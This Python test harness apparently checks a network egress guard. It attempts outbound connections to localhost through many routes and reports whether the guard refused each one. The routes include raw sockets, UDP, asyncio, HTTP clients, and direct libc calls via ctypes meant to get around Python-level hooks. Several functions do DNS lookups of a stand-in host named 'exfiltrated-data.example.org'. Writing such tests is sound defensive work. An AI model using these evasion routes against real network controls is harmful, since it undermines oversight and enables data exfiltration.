"""Runs one attack in a process of its own: `python guard_attack.py ATTACK PORT guarded|open`. Exit 0: it got
through."""

from __future__ import annotations

import asyncio
import ctypes
import socket
import sys
import threading
import urllib.request

from omniops.gate.guard import Guard, install, loop_factory

PORT = int(sys.argv[2])
URL = f"http://127.0.0.1:{PORT}/"


def with_urllib() -> None:
    urllib.request.urlopen(URL, timeout=5).read()


def raw_socket() -> None:
    with socket.create_connection(("127.0.0.1", PORT), timeout=5) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        connection.recv(100)


def connect_ex() -> None:
    with socket.socket() as connection:
        if connection.connect_ex(("127.0.0.1", PORT)):
            raise OSError("no connection")
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")


def in_a_thread() -> None:
    failures: list[BaseException] = []

    def run() -> None:
        try:
            raw_socket()
        except BaseException as error:
            failures.append(error)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if failures:
        raise failures[0]


def subclass() -> None:
    class Mine(socket.socket):
        pass

    with Mine() as connection:
        connection.connect(("127.0.0.1", PORT))
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")


def datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"out", ("127.0.0.1", PORT))


def look_up() -> None:
    socket.gethostbyname("exfiltrated-data.example.org")


def look_up_info() -> None:
    socket.getaddrinfo("exfiltrated-data.example.org", 80)


def c_resolver() -> None:
    ctypes.CDLL(None).gethostbyname(b"exfiltrated-data.example.org")


def c_connect() -> None:
    libc = ctypes.CDLL(None)
    made = socket.socket()
    address = (2).to_bytes(2, sys.byteorder) + PORT.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    if libc.connect(made.fileno(), address, len(address)):
        raise OSError("no connection")
    made.sendall(b"GET / HTTP/1.0\r\n\r\n")


async def streams() -> None:
    _, writer = await asyncio.open_connection("127.0.0.1", PORT)
    writer.write(b"GET / HTTP/1.0\r\n\r\n")
    await writer.drain()


async def with_httpx2() -> None:
    import httpx2

    async with httpx2.AsyncClient() as client:
        await client.get(URL)


async def with_aiohttp() -> None:
    import aiohttp

    async with aiohttp.ClientSession() as session, session.get(URL) as answer:
        await answer.read()


async def endpoint() -> None:
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("127.0.0.1", PORT))
    transport.sendto(b"out")
    await asyncio.sleep(0.05)


async def loop_look_up() -> None:
    await asyncio.get_running_loop().getaddrinfo("exfiltrated-data.example.org", 80)


SYNC = {
    f.__name__: f
    for f in (
        with_urllib, raw_socket, connect_ex, in_a_thread, subclass, datagram, look_up, look_up_info, c_resolver,
        c_connect,
    )
}  # fmt: skip
ASYNC = {f.__name__: f for f in (streams, with_httpx2, with_aiohttp, endpoint, loop_look_up)}

if __name__ == "__main__":
    attack, _, loop = sys.argv[1].partition(":")
    guard = Guard()
    if sys.argv[3] == "guarded":
        install(guard)
    try:
        if attack in SYNC:
            SYNC[attack]()
        else:
            factory = loop_factory() if loop == "uvloop" else asyncio.new_event_loop
            with asyncio.Runner(loop_factory=factory) as runner:
                runner.run(ASYNC[attack]())
    except BaseException as error:
        refused = guard.refused > 0
        print(f"{type(error).__name__} refused={refused}")
        sys.exit(7 if refused else 1)
    print("through")
    sys.exit(7 if guard.refused else 0)
